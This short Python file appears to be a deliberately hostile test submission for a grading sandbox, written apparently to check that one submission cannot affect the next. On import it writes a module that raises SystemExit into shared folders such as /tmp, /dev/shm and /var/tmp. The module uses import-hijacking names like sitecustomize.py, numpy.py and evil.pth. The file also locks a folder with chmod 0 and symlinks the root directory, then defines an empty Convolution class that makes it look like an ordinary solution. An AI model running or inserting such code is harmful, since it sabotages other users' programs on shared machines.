"""Plants modules where a later submission might import them from, and locks its own folder."""
import os

POISON = "raise SystemExit('poisoned by an earlier submission')\n"
for folder in (".", "/tmp", "/tmp/work", *(f"/tmp/work/job-{n}" for n in range(1, 6)), "/dev/shm", "/var/tmp"):
    for name in ("utils.py", "solution.py", "sitecustomize.py", "usercustomize.py", "numpy.py", "evil.pth"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder, name), "w") as handle:
                handle.write(POISON)
        except OSError:
            pass
os.makedirs("locked/deeper", exist_ok=True)
with open("locked/deeper/file.py", "w") as handle:
    handle.write(POISON)
os.chmod("locked/deeper", 0)
os.chmod("locked", 0)
try:
    os.symlink("/", "root-link")
except OSError:
    pass


class Convolution:
    pass
